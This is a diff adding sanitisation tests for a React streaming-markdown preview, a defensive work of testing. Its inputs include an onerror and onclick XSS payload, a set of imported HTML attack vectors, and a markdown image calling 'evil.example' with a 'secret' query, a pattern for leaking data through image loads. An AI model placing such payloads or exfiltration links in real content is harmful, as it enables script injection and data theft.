@@ -1,6 +1,7 @@
 import { cleanup, render } from '@testing-library/react';
 import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
 
+import { HTML_VECTORS, unsafeHtml } from '../sanitize/test/vectors';
 import type * as MarkdownToHtmlModule from './markdown-to-html';
 import { markdownToHtml } from './markdown-to-html';
 import { splitSettled } from './split-settled';
@@ -89,6 +90,27 @@ describe('StreamingMarkdown', () => {
 		);
 		expect(container.querySelector('img, script')).toBeNull();
 		expect(container.textContent).toContain('<img src=x onerror="alert(1)">');
+	});
+
+	it('shows an image of the reply as its alt text, loading nothing', () => {
+		const { container } = render(
+			<StreamingMarkdown text="See ![A cat](https://evil.example/cat.png?q=secret)." />
+		);
+		expect(container.querySelector('img')).toBeNull();
+		expect(container.textContent?.trim()).toBe('See A cat.');
+	});
+
+	it('renders nothing that runs or loads, even from HTML that markdownToHtml let through', () => {
+		// Defence in depth: were the markdown renderer ever to pass HTML through, the
+		// preview's own sanitiser still stands between it and the editor.
+		renders.mockImplementationOnce(() =>
+			HTML_VECTORS.map((vector) => `<p title="x" onclick="alert(1)">Harmless ${vector} words</p>`).join(
+				'\n'
+			)
+		);
+		const { container } = render(<StreamingMarkdown text="Anything" />);
+		expect(unsafeHtml(root(container).innerHTML)).toEqual([]);
+		expect(container.textContent).toContain('Harmless');
 	});
 
 	it('is aria-busy while streaming, and not a live region', () => {
